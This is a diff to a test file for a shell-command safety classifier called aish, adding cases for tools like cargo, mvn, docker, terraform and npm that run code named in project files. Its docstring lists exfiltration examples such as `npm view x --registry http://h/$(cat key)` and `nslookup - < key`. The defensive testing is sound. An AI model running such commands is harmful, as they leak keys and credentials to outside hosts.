@@ -10,7 +10,11 @@ each is the same trick spelled across the programs and options it works with.
 - clients of a remote API or registry given a word computed at run time (`docker search
   $(cat key)`, `kubectl --token "$TOKEN"`, `npm view x --registry http://h/$(cat key)`), and DNS
   lookups of names read from a file or from the input (`dig -f key`, `nslookup - < key`);
-- aish's own shell-integration state (`$__aish_nonce`, a forged OSC 6973 marker).
+- aish's own shell-integration state (`$__aish_nonce`, a forged OSC 6973 marker);
+- files of the project (or named on the line) that name a program the reader runs: rustup's
+  `rust-toolchain.toml` and mvn's `.mvn/jvm.config` even for `--version`, a docker
+  `--config` directory's plugin dirs, a terraform backend's AWS `credential_process`, and the
+  registry (with a token from the environment) a project `.npmrc` names, which `npm ls` asks.
 
 Each row is (command, expected level, a fragment the reasons must contain). The `safe` rows
 also run in the differential oracle (tests/oracle), so the fixes do not cost plain readers.
@@ -152,7 +156,6 @@ _CLIENT_CASES = [
     ("docker ps --format '{{.Names}}'", "safe", ""),
     ("docker -H tcp://127.0.0.1:8765 ps", "safe", ""),
     ("kubectl get pods -n prod", "safe", ""),
-    # (`npm view x` stays safe here too, though npm writes ~/.npm/_logs on every run)
 ]
 
 _LOOKUP_CASES = [
@@ -203,8 +206,106 @@ _KUBECONFIG_CASES = [
     ("kubectl config view", "safe", ""),
 ]
 
+# Launchers that read the project before their arguments: `--version` alone runs what the
+# project's files pick (rust-toolchain.toml's `path`, .mvn/jvm.config's java options …).
+_LAUNCHERS = (
+    "cargo",
+    "rustc",
+    "rustup",
+    "mvn",
+    "mvnDebug",
+    "sbt",
+    "gradle",
+    "yarn",
+    "pnpm",
+    "corepack",
+    "bazel",
+    "bazelisk",
+    "go",
+    "bundle",
+    "composer",
+)
+_PROJECT_CONFIG_CASES = (
+    [
+        (f"{prefix}{tool} {args}", "unknown", "project's files")
+        for tool in _LAUNCHERS
+        for args in ("--version", "--help", "--help --version")
+        for prefix in ("", "sudo ", "env ", "time ", "/usr/bin/")
+    ]
+    + [
+        ("\\cargo --version", "unknown", "project's files"),
+        ("'mvn' --version", "unknown", "project's files"),
+        ("cd sub && cargo --version", "unknown", "project's files"),
+        ("ls; mvn --version | head -1", "unknown", "project's files"),
+        ("make --version", "safe", ""),
+        ("git --version", "safe", ""),
+        ("terraform version", "safe", ""),
+        ("cd infra && terraform version", "safe", ""),
+    ]
+    + [
+        # docker --config DIR: its config.json's cliPluginsExtraDirs runs DIR's plugins
+        (f"{prefix}docker {spelling} {sub}", "unknown", "--config")
+        for prefix in ("", "sudo ")
+        for spelling in ("--config ./dockercfg", "--config=dockercfg", "--config dockercfg/")
+        for sub in ("compose ps", "compose config", "ps", "images", "system df", "context ls")
+    ]
+    + [
+        ("docker compose ps", "safe", ""),
+        ("docker ps -a", "safe", ""),
+    ]
+    + [
+        # terraform readers set up the backend the working tree records (credential_process …)
+        (line, "unknown", "not known to be read-only")
+        for line in (
+            "terraform output",
+            "terraform output -json",
+            "terraform output -raw url",
+            "terraform -chdir=infra output",
+            "cd infra && terraform output",
+            "terraform providers",
+            "terraform -chdir=infra providers",
+            "terraform state list",
+            "cd infra && terraform state list",
+            "tofu output",
+            "tofu state list",
+        )
+    ]
+    + [
+        # a project .npmrc names the registry and its token; every npm command asks it
+        (line, "unknown", line.split()[0])
+        for line in (
+            "npm ls",
+            "npm list --depth=0",
+            "npm ls --offline",
+            "npm why lodash",
+            "npm explain lodash",
+            "npm outdated",
+            "npm audit",
+            "npm view lodash version",
+            "npm info lodash",
+            "yarn list",
+            "yarn why lodash",
+            "yarn info lodash",
+            "pnpm ls",
+            "pnpm why lodash",
+            "pnpm audit",
+        )
+    ]
+    + [
+        # a kuberc named on the line sets default flags for kubectl's commands
+        (f"kubectl {line}", "unknown", "")
+        for line in (
+            "get pods --kuberc k.yaml",
+            "get pods --kuberc=k.yaml",
+            "--kuberc=k.yaml get pods",
+            "config view --kuberc k.yaml",
+        )
+    ]
+)
+
 CASES = (
     _SHELL_CASES
+    + _PROJECT_CONFIG_CASES
     + _KUBECONFIG_CASES
     + _SED_CASES
     + _IP_CASES
